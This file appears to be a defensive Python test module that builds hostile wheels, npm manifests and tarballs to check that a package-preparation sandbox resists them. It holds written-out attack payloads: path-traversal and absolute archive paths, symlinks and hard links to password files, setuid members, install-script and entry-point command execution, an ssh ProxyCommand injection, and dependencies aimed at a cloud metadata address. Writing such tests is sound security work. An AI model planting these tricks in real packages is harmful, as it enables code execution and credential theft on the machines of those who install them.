"""Packages that attack whoever prepares them, and what must not have come of it.

Each attack leaves `sprung` or `evil` somewhere if it works.
"""

import io
import json
import os
import stat
import tarfile
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

from contract.initenv.harness import Outcome, Pod
from contract.initenv.package_index import make_wheel

SECRET = "hunter2-Canary"
SPRING = (
    "import os, pathlib; pathlib.Path(os.environ.get('TMPDIR', '/tmp'), 'sprung').write_text('x'); print('sprung')\n"
)
SYSTEM = ("sh", "env", "cat", "ls", "git", "python3", "node")
"""uv refuses a script called python3 itself, and node is not called in setup."""


def assert_unharmed(pod: Pod, outcome: Outcome) -> None:
    """Nothing ran, nothing is outside of its folder, nothing has more rights, and no secret is told."""
    assert not [line for line in outcome.stderr.splitlines() if line.endswith(": sprung")]
    assert not list(pod.root.rglob("sprung*"))
    assert not [path for path in pod.root.rglob("evil*") if not path.is_relative_to(pod.shared / "sdk")]
    assert not Path("/tmp/evil").exists()
    assert SECRET not in outcome.stderr
    assert SECRET not in outcome.stdout
    for path in pod.shared.rglob("*"):
        mode = path.lstat().st_mode
        assert stat.S_ISREG(mode) or stat.S_ISDIR(mode) or stat.S_ISLNK(mode), path
        assert not (stat.S_ISREG(mode) and mode & (stat.S_ISUID | stat.S_ISGID)), path
        if stat.S_ISLNK(mode) and ".agentberth" not in path.parts:
            assert Path(os.path.realpath(path)).is_relative_to(pod.shared.resolve()), path
        if stat.S_ISREG(mode):
            assert SECRET.encode() not in path.read_bytes(), path


def raw_wheel(name: str, member: zipfile.ZipInfo, content: bytes = b"x") -> tuple[str, bytes]:
    """A wheel with one more member, however odd."""
    filename, wheel = make_wheel(name, "1.0")
    packed = io.BytesIO(wheel)
    with zipfile.ZipFile(packed, "a") as archive:
        archive.writestr(member, content)
    return filename, packed.getvalue()


def info(path: str, mode: int = stat.S_IFREG | 0o644) -> zipfile.ZipInfo:
    member = zipfile.ZipInfo(path, (2020, 1, 1, 0, 0, 0))
    member.external_attr = mode << 16
    return member


WHEELS: dict[str, Callable[[str], tuple[str, bytes]]] = {
    "traversal": lambda name: raw_wheel(name, info("../../../evil.py")),
    "traversal_far": lambda name: raw_wheel(name, info("../" * 12 + "tmp/evil")),
    "absolute": lambda name: raw_wheel(name, info("/tmp/evil")),
    "backslashes": lambda name: raw_wheel(name, info("..\\..\\evil.py")),
    "data_out_of_its_scheme": lambda name: raw_wheel(name, info(f"{name}-1.0.data/data/../../../../evil")),
    "script_out_of_its_scheme": lambda name: raw_wheel(name, info(f"{name}-1.0.data/scripts/../../../evil")),
    "set_user_id": lambda name: raw_wheel(
        name, info(f"{name}-1.0.data/scripts/tool", stat.S_IFREG | 0o4755), b"#!/bin/sh\n"
    ),
    "link": lambda name: raw_wheel(name, info("trap_link", stat.S_IFLNK | 0o777), b"/etc/agentberth/git/password"),
    "device": lambda name: raw_wheel(name, info("trap_device", stat.S_IFCHR | 0o666)),
    "entry_point_out": lambda name: make_wheel(name, "1.0", scripts={"../../../evil": f"{name}:main"}),
    "entry_point_absolute": lambda name: make_wheel(name, "1.0", scripts={"/tmp/evil": f"{name}:main"}),
    "entry_point_of_code": lambda name: make_wheel(name, "1.0", scripts={"tool": "os:system('touch sprung')"}),
    "name_of_another": lambda name: (f"{name}-1.0-py3-none-any.whl", make_wheel("other", "1.0")[1]),
    "no_zip": lambda name: (f"{name}-1.0-py3-none-any.whl", b"<!DOCTYPE html><title>Sign in</title>"),
    "empty": lambda name: (f"{name}-1.0-py3-none-any.whl", b""),
    "cut": lambda name: (f"{name}-1.0-py3-none-any.whl", make_wheel(name, "1.0")[1][:200]),
    "needs_a_file": lambda name: make_wheel(name, "1.0", requires=("evil @ file:///etc/agentberth/git",)),
    "needs_a_repository": lambda name: make_wheel(name, "1.0", requires=("evil @ git+file:///etc/agentberth",)),
    "needs_another_host": lambda name: make_wheel(
        name, "1.0", requires=("evil @ http://169.254.169.254/evil-1.0-py3-none-any.whl",)
    ),
    "needs_an_option": lambda name: make_wheel(name, "1.0", requires=("--index-url=http://127.0.0.1:9/",)),
}


SCRIPTS = ("preinstall", "install", "postinstall", "prepare", "prepublish", "preprepare", "postprepare", "dependencies")
TOUCH = "touch $INIT_CWD/sprung /tmp/sprung sprung; echo sprung"
MANIFESTS: dict[str, Mapping[str, Any]] = {
    "scripts": {"scripts": dict.fromkeys(SCRIPTS, TOUCH)},
    "programs_of_the_system": {"bin": dict.fromkeys(SYSTEM, "cli.js")},
    "program_out": {"bin": {"../../../../evil": "cli.js"}},
    "program_absolute": {"bin": {"/tmp/evil": "cli.js"}},
    "program_elsewhere": {"bin": {"tool": "../../../../../../etc/agentberth/git/password"}},
    "program_absolute_target": {"bin": {"tool": "/etc/agentberth/git/password"}},
    "folder_of_programs": {"directories": {"bin": "../../../../../../etc/agentberth/git"}},
    "needs_a_folder": {"dependencies": {"evil": "file:/etc/agentberth/git"}},
    "needs_a_folder_above": {"dependencies": {"evil": "file:../../../../.."}},
    "needs_a_repository": {"dependencies": {"evil": "git+file:///etc/agentberth"}},
    "needs_ssh": {"dependencies": {"evil": "git+ssh://-oProxyCommand=touch%20sprung/x"}},
    "needs_a_link": {"dependencies": {"evil": "link:/etc/agentberth/git"}},
    "needs_a_strange_name": {"dependencies": {"../../evil": "1.0.0"}},
    "bundles_what_is_not_there": {"bundledDependencies": ["../../evil"]},
    "workspaces": {"workspaces": ["/etc/agentberth/git"]},
    "native_build": {"gypfile": True},
}


TARBALLS: dict[str, Mapping[str, Any]] = {
    "traversal": {"name": "package/../../../../evil"},
    "absolute": {"name": "/tmp/evil"},
    "link": {"name": "package/evil_link", "type": tarfile.SYMTYPE, "linkname": "/etc/agentberth/git/password"},
    "hard_link": {"name": "package/evil_link", "type": tarfile.LNKTYPE, "linkname": "/etc/passwd"},
    "device": {"name": "package/evil_device", "type": tarfile.CHRTYPE},
    "fifo": {"name": "package/evil_pipe", "type": tarfile.FIFOTYPE},
    "set_user_id": {"name": "package/tool", "mode": 0o6755},
    "own_settings": {"name": "package/.npmrc", "content": b"script-shell=/bin/evil\nignore-scripts=false\n"},
    "build_file": {"name": "package/binding.gyp", "content": b"{'targets': [{'actions': ['touch sprung']}]}"},
}


def tarball(project: str, *, name: str, content: bytes = b"x", **attributes: Any) -> bytes:
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w:gz") as archive:
        for path, data, more in (
            ("package/package.json", json.dumps({"name": project, "version": "1.0.0"}).encode(), {}),
            (name, content, attributes),
        ):
            member = tarfile.TarInfo(path)
            member.mode = 0o644
            for key, value in more.items():
                setattr(member, key, value)
            member.size = len(data) if member.isreg() else 0
            archive.addfile(member, io.BytesIO(data) if member.isreg() else None)
    return packed.getvalue()
